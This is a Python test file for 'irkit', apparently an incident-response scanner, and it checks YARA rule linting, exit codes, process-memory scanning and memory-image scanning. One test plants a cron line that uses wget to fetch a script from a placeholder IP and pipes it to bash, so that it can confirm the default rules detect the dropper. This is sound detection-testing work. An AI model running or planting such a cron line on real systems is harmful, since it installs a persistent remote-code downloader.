"""`irkit scan` and `irkit rules check` through the real CLI."""

import json
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

from irkit.exitcodes import ExitCode

Run = Callable[..., subprocess.CompletedProcess[bytes]]
REPO = Path(__file__).resolve().parent.parent

META = """
    meta:
        description = "test"
        severity = "{severity}"
        reference = "https://example.invalid/"
        mitre = "T1496"
        date = "2026-11-30"
"""


def rule(name: str, text: str, severity: str = "high") -> str:
    return (
        f"rule {name}\n{{\n{META.format(severity=severity)}"
        f'    strings:\n        $m = "{text}"\n    condition:\n        $m\n}}\n'
    )


def test_shipped_pack_checks_clean(run_irkit: Run) -> None:
    done = run_irkit("rules", "check", REPO / "yara")
    assert done.returncode == ExitCode.CLEAN, done.stderr
    assert b"ok" in done.stderr


def test_syntax_error_names_file_and_line(run_irkit: Run, tmp_path: Path) -> None:
    (tmp_path / "good.yar").write_text(rule("fine", "abc"))
    (tmp_path / "bad.yar").write_text(rule("broken", "abc").replace("$m\n}", "$m and\n}"))
    done = run_irkit("rules", "check", tmp_path)
    assert done.returncode == ExitCode.USAGE
    assert f"{tmp_path / 'bad.yar'}:14: error: syntax error".encode() in done.stderr


def test_lint_names_missing_meta_bad_severity_and_duplicates(
    run_irkit: Run, tmp_path: Path
) -> None:
    (tmp_path / "a.yar").write_text(rule("same", "abc") + rule("odd", "x", severity="severe"))
    (tmp_path / "b.yar").write_text(
        'rule same { strings: $a = "q" condition: $a }\n' + rule("ok_rule", "z")
    )
    done = run_irkit("rules", "check", tmp_path, "--json")
    assert done.returncode == ExitCode.USAGE
    problems = {
        (Path(p["file"]).name, p["line"], p["message"]) for p in json.loads(done.stdout)["problems"]
    }
    assert (
        "a.yar",
        20,
        "rule odd: severity 'severe' not one of info, low, medium, high, critical",
    ) in problems
    assert ("b.yar", 1, "rule same: no meta description") in problems
    assert ("b.yar", 1, f"rule same already defined at {tmp_path / 'a.yar'}:1") in problems


def test_scan_exit_codes(run_irkit: Run, tmp_path: Path) -> None:
    rules = tmp_path / "r.yar"
    rules.write_text(rule("medium_one", "needle", severity="medium"))
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "clean.txt").write_text("nothing")
    assert run_irkit("scan", tree, "--rules", rules).returncode == ExitCode.CLEAN
    (tree / "hit.txt").write_text("a needle here")
    done = run_irkit("scan", tree, "--rules", rules)
    assert done.returncode == ExitCode.FINDINGS
    assert b"medium_one" in done.stdout and b"hit.txt" in done.stdout
    assert run_irkit("scan", tree, "--rules", rules, "--fail-on", "high").returncode == 0
    assert run_irkit("scan", tree, "--rules", tmp_path / "none.yar").returncode == 2
    assert run_irkit("scan", "--rules", rules).returncode == ExitCode.USAGE
    assert run_irkit("scan", tree, "--fail-on", "bad").returncode == ExitCode.USAGE


def test_scan_default_pack_finds_a_planted_cron_line(run_irkit: Run, tmp_path: Path) -> None:
    (tmp_path / "root").write_text("*/3 * * * * wget -q -O - http://198.51.100.9/x | bash\n")
    done = run_irkit("scan", tmp_path, "--json")
    assert done.returncode == ExitCode.FINDINGS
    hits = json.loads(done.stdout)["hits"]
    assert "IRKIT_Dropper_Cron_Download_Exec" in {h["rule"] for h in hits}


CHILD = """
import sys, time
held = "-".join(["IRKIT", "PID", "MARKER", str(6 * 7)])
sys.stdout.write("ready\\n"); sys.stdout.flush()
time.sleep(120)
"""


def test_scan_pid_finds_a_marker_held_only_in_memory(run_irkit: Run, tmp_path: Path) -> None:
    rules = tmp_path / "r.yar"
    rules.write_text(rule("pid_marker", "IRKIT-PID-MARKER-42"))
    proc = subprocess.Popen([sys.executable, "-c", CHILD], stdout=subprocess.PIPE)
    try:
        assert proc.stdout is not None and proc.stdout.readline() == b"ready\n"
        done = run_irkit("scan", "--pid", str(proc.pid), "--rules", rules, "--json")
    finally:
        proc.kill()
        proc.wait()
    assert done.returncode == ExitCode.FINDINGS, done.stderr
    (hit,) = json.loads(done.stdout)["hits"]
    assert (hit["rule"], hit["pid"], hit["target_kind"]) == ("pid_marker", proc.pid, "process")


def test_scan_image_in_small_chunks(run_irkit: Run, tmp_path: Path) -> None:
    rules = tmp_path / "r.yar"
    rules.write_text(rule("img_marker", "STRADDLING-MARKER"))
    image = tmp_path / "mem.lime"
    data = bytearray(16384)
    data[8190 : 8190 + 17] = b"STRADDLING-MARKER"
    image.write_bytes(data)
    done = run_irkit(
        "scan",
        "--image",
        image,
        "--rules",
        rules,
        "--chunk-size",
        "4096",
        "--overlap",
        "512",
        "--json",
    )
    (hit,) = json.loads(done.stdout)["hits"]
    assert [(s["offset"], s["excerpt"]) for s in hit["strings"]] == [(8190, "STRADDLING-MARKER")]
    bad = run_irkit("scan", "--image", image, "--chunk-size", "4K", "--overlap", "8K")
    assert bad.returncode == ExitCode.USAGE


def test_rule_pack_ships_as_package_data(tmp_path: Path) -> None:
    """What a wheel would carry: setuptools' build_py on a copy of the package."""
    source = tmp_path / "src"
    shutil.copytree(REPO / "irkit", source / "irkit", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(REPO / "pyproject.toml", source)
    (source / "README.md").write_text("irkit\n")
    subprocess.run(
        [
            sys.executable,
            "-c",
            "import setuptools; setuptools.setup()",
            "-q",
            "build_py",
            "--build-lib",
            str(tmp_path / "lib"),
        ],
        cwd=source,
        check=True,
        capture_output=True,
        timeout=120,
    )
    shipped = {p.name for p in (tmp_path / "lib" / "irkit" / "data" / "yara").glob("*.yar")}
    assert shipped == {p.name for p in (REPO / "yara").glob("*.yar")}


def test_scan_all_processes_finds_the_child_and_skips_itself(
    run_irkit: Run, tmp_path: Path
) -> None:
    rules = tmp_path / "r.yar"
    rules.write_text(rule("pid_marker", "IRKIT-PID-MARKER-42"))
    proc = subprocess.Popen([sys.executable, "-c", CHILD], stdout=subprocess.PIPE)
    try:
        assert proc.stdout is not None and proc.stdout.readline() == b"ready\n"
        done = run_irkit("scan", "--all-processes", "--rules", rules, "--json")
    finally:
        proc.kill()
        proc.wait()
    assert done.returncode == ExitCode.FINDINGS, done.stderr
    pids = {hit["pid"] for hit in json.loads(done.stdout)["hits"]}
    assert proc.pid in pids
